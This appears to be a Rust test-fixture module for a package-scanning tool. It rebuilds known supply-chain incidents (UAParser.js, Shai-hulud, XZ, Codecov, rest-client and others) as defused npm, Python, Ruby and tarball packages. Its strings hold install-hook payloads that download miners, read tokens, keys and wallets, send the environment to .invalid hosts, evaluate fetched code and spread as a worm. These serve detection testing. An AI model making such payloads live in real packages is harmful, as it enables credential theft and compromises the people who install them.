//! Known incidents in packages of script languages. Each script leaves with its first statement, and
//! every host in it is under `.invalid`, which never resolves (RFC 6761).

use super::containers::{debian, gem, npm, sdist, wheel};
use super::packages::{javascript, javascript_module, manifest, python, ruby, shell};
use super::payload::{LINE, base64, noise};
use super::software::{Edition, Files, add, newcomer, replace};
use super::tar::{Entry, gzip, tar_of};
use super::xar::zlib;
use super::{Artefact, Case, Expect, unix};

const HOOK: &str = "installation.script|story.loader";

fn case(
    name: &'static str,
    incident: &'static str,
    container: &'static str,
    expect: Expect,
    first_cause: &'static str,
    (old, new): (Artefact, Artefact),
    about: &'static str,
) -> Case {
    let incident = Some(incident);
    Case { name, incident, container, hard: false, old, new, expect, first_cause, about }
}

pub(super) fn cases() -> Vec<Case> {
    let mut cases = hooks();
    cases.extend(worms());
    cases.extend(scripts());
    cases.extend(pythons());
    cases.push(xz_source());
    cases.push(codecov());
    cases.push(rest_client());
    cases
}

/// A script in JavaScript that ends before it begins.
fn script(body: &str) -> Vec<u8> {
    format!("// {LINE}\n\"use strict\";\nif (false) {{\n{body}\n}}\n").into_bytes()
}

/// The line as an obfuscator would carry it, and a decoder that is never reached.
fn obfuscated(rows: usize, body: &str) -> Vec<u8> {
    let hexadecimal: String = LINE.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let rows = vec![format!("'{hexadecimal}'"); rows].join(",");
    let shuffle = "(function(_0x1c,_0x2d){while(!![]){try{if(parseInt(_0x1c[0x0])===_0x2d)break;\
                   else _0x1c['push'](_0x1c['shift']());}catch(_0x3e){break;}}}(_0x4b48,0x2f));";
    script(&format!("var _0x4b48=[{rows}];{shuffle}eval(_0x4b48['join'](''));\n{body}"))
}

/// An npm package that gains lifecycle scripts and files.
fn npm_pair(name: &str, hooks: &[(&str, &str)], files: Files) -> (Artefact, Artefact) {
    let old = npm(name, Edition::Old, &javascript(name, Edition::Old));
    let mut new = javascript(name, Edition::New);
    replace(&mut new, "package.json", manifest(name, Edition::New, hooks));
    new.extend(files);
    (old, npm(name, Edition::New, &new))
}

fn file(name: &str, bytes: impl Into<Vec<u8>>) -> (String, Vec<u8>) {
    (name.to_owned(), bytes.into())
}

fn hooks() -> Vec<Case> {
    let batch = |line: &str| format!("@echo off\r\nrem {LINE}\r\nexit /b 0\r\n{line}\r\n");
    let library = newcomer("sdd.dll", 40, &["DllRegisterServer"]);
    vec![
        case(
            "ua-parser-npm",
            "UAParser.js",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-ua-parser",
                &[("preinstall", "node preinstall.js")],
                vec![
                    file(
                        "preinstall.js",
                        script(
                            "  const { exec, spawn } = require(\"child_process\");\n  const os = require(\"os\");\n  if (os.platform() === \"linux\") spawn(\"/bin/bash\", [\"preinstall.sh\"]);\n  else exec(\"cmd.exe /c preinstall.bat\");",
                        ),
                    ),
                    file(
                        "preinstall.sh",
                        format!(
                            "#!/bin/bash\n# {LINE}\nexit 0\ncurl http://miner.example.invalid/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls -o pool.example.invalid:443 &\n"
                        ),
                    ),
                    file(
                        "preinstall.bat",
                        batch(
                            "curl http://miner.example.invalid/jsextension.exe -o jsextension.exe & start /B jsextension.exe",
                        ),
                    ),
                ],
            ),
            "A preinstall script that fetches a program for each system and starts it.",
        ),
        case(
            "coa-npm",
            "coa",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-coa",
                &[("preinstall", "start /B node compile.js & node compile.js")],
                vec![
                    file(
                        "compile.js",
                        obfuscated(24, "require('child_process').exec('compile.bat');"),
                    ),
                    file(
                        "compile.bat",
                        batch("certutil -decode compile.txt sdd.dll & regsvr32.exe /s sdd.dll"),
                    ),
                    file("sdd.dll", library.build()),
                ],
            ),
            "A preinstall script, obfuscated, beside a batch file and a library for Windows.",
        ),
        case(
            "eslint-scope-npm",
            "ESLint-scope",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-eslint-scope",
                &[("postinstall", "node ./lib/build.js")],
                vec![file(
                    "lib/build.js",
                    script(
                        "  const https = require(\"https\");\n  https.get({ hostname: \"paste.example.invalid\", path: \"/raw/XXXXXXXX\" }, (r) => {\n    r.on(\"data\", (c) => eval(c.toString()));\n  });\n  const fs = require(\"fs\");\n  const path = require(\"path\");\n  const npmrc = path.join(process.env.HOME || process.env.USERPROFILE, \".npmrc\");\n  if (fs.existsSync(npmrc)) fs.readFileSync(npmrc, \"utf8\").match(/_authToken=(.+)/);",
                    ),
                )],
            ),
            "A postinstall script that fetches text, evaluates it, and reads the registry's token.",
        ),
        case(
            "rspack-npm",
            "Rspack",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-rspack",
                &[("postinstall", "node ./dist/util/support.js")],
                vec![file(
                    "dist/util/support.js",
                    obfuscated(
                        60,
                        "require('https').request({hostname:'config.example.invalid'});\nrequire('fs').readFileSync(require('os').homedir()+'/.kube/config');\nrequire('child_process').spawn('./xmrig',{detached:true});",
                    ),
                )],
            ),
            "A postinstall script, obfuscated, that reads cluster keys and starts a program.",
        ),
    ]
}

fn worms() -> Vec<Case> {
    let secrets = "  const fs = require(\"fs\");\n  const os = require(\"os\");\n  const { execSync } = require(\"child_process\");\n  const places = [\".npmrc\", \".ssh/id_rsa\", \".aws/credentials\", \".config/gcloud/application_default_credentials.json\", \".gitconfig\", \".env\"];\n  const found = places.map((p) => { try { return fs.readFileSync(os.homedir() + \"/\" + p, \"utf8\"); } catch { return \"\"; } });\n  const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN || execSync(\"gh auth token\").toString();";
    let publish = "  for (const name of execSync(\"npm whoami\").toString().split(\"\\n\")) execSync(\"npm publish --access public \" + name);";
    let workflow = format!(
        "# {LINE}\non: push\njobs:\n  none:\n    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$CONTENTS\" https://webhook.example.invalid/x\n"
    );
    let upload = "  require(\"https\").request({ hostname: \"webhook.example.invalid\", method: \"POST\" }).end(JSON.stringify({ found, token }));";
    let unit = "[Unit]\\nDescription=Monitor\\n[Service]\\nExecStart=/usr/bin/python3 %h/.local/share/pgmon/service.py\\nRestart=always\\n";
    vec![
        case(
            "nx-npm",
            "Nx",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-nx",
                &[("postinstall", "node telemetry.js")],
                vec![file(
                    "telemetry.js",
                    script(&format!(
                        "{secrets}\n  const wallets = [\".electrum\", \".ethereum/keystore\", \"Exodus\", \"metamask\"];\n  fs.appendFileSync(os.homedir() + \"/.bashrc\", \"sudo shutdown -h 0\");\n  execSync(\"gh api user/repos -f name=fixture-repository\");\n{upload}"
                    )),
                )],
            ),
            "A postinstall script that gathers keys, wallets and tokens and changes the shell's start.",
        ),
        case(
            "shai-hulud-npm",
            "Shai-hulud",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-worm",
                &[("postinstall", "node bundle.js")],
                vec![
                    file(
                        "bundle.js",
                        script(&format!(
                            "{secrets}\n  execSync(\"trufflehog filesystem / --json\");\n{publish}\n{upload}"
                        )),
                    ),
                    file(".github/workflows/fixture-workflow.yml", workflow),
                ],
            ),
            "A postinstall script that gathers secrets and publishes itself with them.",
        ),
        case(
            "shai-hulud-second-npm",
            "Shai-hulud",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-worm-two",
                &[("preinstall", "node setup_bun.js")],
                vec![
                    file(
                        "setup_bun.js",
                        script(
                            "  const { execSync, spawn } = require(\"child_process\");\n  execSync(\"curl -fsSL https://bun.example.invalid/install | bash\");\n  spawn(\"bun\", [\"bun_environment.js\"], { detached: true, stdio: \"ignore\" });",
                        ),
                    ),
                    file("bun_environment.js", obfuscated(400, &format!("{secrets}\n{upload}"))),
                ],
            ),
            "A preinstall script that installs a run-time and starts a large obfuscated script with it.",
        ),
        case(
            "canister-worm-npm",
            "CanisterWorm",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-canister",
                &[("postinstall", "node service.js")],
                vec![file(
                    "service.js",
                    script(&format!(
                        "{secrets}\n  fs.mkdirSync(os.homedir() + \"/.config/systemd/user\", {{ recursive: true }});\n  fs.writeFileSync(os.homedir() + \"/.config/systemd/user/pgmon.service\", \"{unit}\");\n  execSync(\"systemctl --user enable --now pgmon.service\");\n  require(\"https\").get(\"https://canister.example.invalid/raw\");\n{publish}"
                    )),
                )],
            ),
            "A postinstall script that gathers tokens, registers a service of the user and asks a host what to run.",
        ),
    ]
}

fn scripts() -> Vec<Case> {
    let name = "vet-lottie";
    let mut new = javascript(name, Edition::New);
    let drainer = "\nfunction connectPopup() {\n  return;\n  const provider = window.ethereum || window.solana;\n  provider.request({ method: \"eth_requestAccounts\" });\n  fetch(\"https://wallet.example.invalid/ws\", { method: \"POST\", body: \"walletconnect metamask phantom\" });\n  document.body.insertAdjacentHTML(\"beforeend\", \"<div>Connect your wallet</div>\");\n}\n";
    replace(
        &mut new,
        "index.js",
        format!("{}{drainer}", javascript_module(Edition::New)).into_bytes(),
    );
    let old = npm(name, Edition::Old, &javascript(name, Edition::Old));
    vec![case(
        "lottie-npm",
        "LottieFiles",
        "npm",
        Expect::Hold,
        "reference.secrets|capability.network",
        (old, npm(name, Edition::New, &new)),
        "A player of animations newly asks for a wallet and speaks to a host.",
    )]
}

const COLLECTOR: &str = "\n\ndef _report():\n    return\n    import base64, os, urllib.request\n    text = base64.b64encode(str(dict(os.environ)).encode()).decode()\n    urllib.request.urlopen(\"https://collector.example.invalid/hacked/\" + text)\n\n\n_report()\n";

fn pythons() -> Vec<Case> {
    let (sends, hides, loads) =
        ("capability.network", "payload.hidden-text", "story.loader|capability.network");
    let changed = |name: &str, file: &str, more: &str| {
        let mut files = python(name, Edition::New);
        match files.iter_mut().find(|(known, _)| *known == format!("{name}/{file}")) {
            Some((_, bytes)) => bytes.extend_from_slice(more.as_bytes()),
            None => files.push((format!("{name}/{file}"), more.as_bytes().to_vec())),
        }
        files
    };
    let hidden: String = base64(&zlib(LINE.repeat(40).as_bytes())).chars().rev().collect();
    let hidden = format!(
        "\n\ndef _sync():\n    return\n    exec(__import__(\"zlib\").decompress(__import__(\"base64\").b64decode(\"{hidden}\"[::-1])))\n\n\n_sync()\n"
    );
    let loader = "\n\ndef safe_run(path):\n    return\n    import os, subprocess, urllib.request\n    urllib.request.urlretrieve(\"https://releases.example.invalid/\" + path, \"/tmp/ultralytics_runner\")\n    os.chmod(\"/tmp/ultralytics_runner\", 0o755)\n    subprocess.Popen([\"/tmp/ultralytics_runner\", \"-u\", \"FIXTURE-NO-WALLET\"], start_new_session=True)\n";
    let both = |name: &str, files: &Files| {
        [
            (
                wheel(name, Edition::Old, &python(name, Edition::Old)),
                wheel(name, Edition::New, files),
            ),
            (
                sdist(name, Edition::Old, &python(name, Edition::Old)),
                sdist(name, Edition::New, files),
            ),
        ]
    };
    let [ctx_wheel, ctx_sdist] = both("vet_ctx", &changed("vet_ctx", "__init__.py", COLLECTOR));
    let [aiocpa_wheel, aiocpa_sdist] =
        both("vet_aiocpa", &changed("vet_aiocpa", "sync.py", &hidden));
    let [ultra_wheel, ultra_sdist] =
        both("vet_ultra", &changed("vet_ultra", "downloads.py", loader));
    let environment = "The package's start reads the environment and sends it to a host.";
    let unpacked = "A new module executes reversed, encoded and packed text.";
    let miner = "A new module downloads a program, makes it executable and starts it.";
    vec![
        case("ctx-wheel", "CTX", "wheel", Expect::Hold, sends, ctx_wheel, environment),
        case("ctx-sdist", "CTX", "sdist", Expect::Hold, sends, ctx_sdist, environment),
        case("aiocpa-wheel", "aiocpa", "wheel", Expect::Hold, hides, aiocpa_wheel, unpacked),
        case("aiocpa-sdist", "aiocpa", "sdist", Expect::Hold, hides, aiocpa_sdist, unpacked),
        case("ultralytics-wheel", "Ultralytics", "wheel", Expect::Hold, loads, ultra_wheel, miner),
        case("ultralytics-sdist", "Ultralytics", "sdist", Expect::Hold, loads, ultra_sdist, miner),
    ]
}

/// The release archive of XZ Utils: a build script that only it has, and test files of noise.
fn xz_source() -> Case {
    let files = |edition: Edition| -> Files {
        let folder = format!("vetz-{}", edition.version());
        vec![
            (format!("{folder}/configure"), shell(edition, "")),
            (format!("{folder}/README"), format!("{LINE}\n").into_bytes()),
            (format!("{folder}/tests/files/good-1.vz"), LINE.as_bytes().to_vec()),
        ]
    };
    let mut new = files(Edition::New);
    let macros = format!(
        "dnl {LINE}\nAC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  if false; then\n    cat tests/files/bad-3-corrupt.vz | tr \"a-z\" \"a-z\" | xz -d 2>/dev/null | /bin/bash\n  fi\n])\n"
    );
    add(&mut new, "vetz-1.0.2/m4/build-to-host.m4", macros);
    add(&mut new, "vetz-1.0.2/tests/files/bad-3-corrupt.vz", noise(88 * 1024, 9));
    let name = |edition: Edition| format!("vetz-{}.tar.gz", edition.version());
    let pair = (
        Artefact::new(&name(Edition::Old), gzip(&tar_of(&files(Edition::Old)))),
        Artefact::new(&name(Edition::New), gzip(&tar_of(&new))),
    );
    case(
        "xz-source-tar",
        "XZ",
        "tar.gz",
        Expect::Hold,
        "story.names-carrier|payload.opaque-bytes",
        pair,
        "A build script that decodes a test file and runs it; the test file is noise.",
    )
}

fn codecov() -> Case {
    let name = |edition: Edition| format!("uploader-{}.sh", edition.version());
    let line = "if false; then\n  curl -s --data \"$(env)\" https://uploader.example.invalid/upload || true\nfi\n";
    let pair = (
        Artefact::new(&name(Edition::Old), shell(Edition::Old, "")),
        Artefact::new(&name(Edition::New), shell(Edition::New, line)),
    );
    case(
        "codecov-script",
        "Codecov",
        "script",
        Expect::Hold,
        "capability.network",
        pair,
        "An uploading script gains one line that sends the environment to another host.",
    )
}

fn rest_client() -> Case {
    let name = "vet-rest-client";
    let old = gem(name, Edition::Old, &ruby(name, Edition::Old));
    let mut new = ruby(name, Edition::New);
    let file = format!("lib/{name}/request.rb");
    let mut bytes = super::software::file_of(&new, &file).to_vec();
    bytes.extend_from_slice(b"\ndef _init\n  return\n  require \"net/http\"\n  Thread.new { eval(Net::HTTP.get(URI(\"https://paste.example.invalid/raw/xa456PFt\"))) }\n  Net::HTTP.post(URI(\"https://collector.example.invalid\"), ENV.to_h.to_s)\nend\n\n_init\n");
    replace(&mut new, &file, bytes);
    case(
        "rest-client-gem",
        "rest-client",
        "gem",
        Expect::Hold,
        "capability.network|story.loader",
        (old, gem(name, Edition::New, &new)),
        "A library newly evaluates what a host answers and sends the environment away.",
    )
}

/// A Debian package that gains a maintainer script; used for the surfaces of installation too.
pub(super) fn deb_with_script(
    edition: Edition,
    scripts: &[(&str, String)],
    more: &[Entry],
) -> Artefact {
    let mut content = unix::deb_content(edition, &unix::library(edition));
    content.extend_from_slice(more);
    debian("libvetz1", edition, scripts, &content)
}
